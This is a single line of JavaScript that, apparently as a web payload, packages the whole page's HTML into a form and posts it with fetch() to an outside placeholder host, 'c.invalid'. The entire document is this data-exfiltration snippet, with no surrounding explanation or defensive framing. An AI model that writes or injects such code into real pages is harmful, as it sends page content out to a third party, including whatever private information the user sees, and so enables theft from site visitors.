const f = new FormData(); f.append('x', new Blob([document.documentElement.outerHTML])); fetch('https://c.invalid', { method: 'POST', body: f });
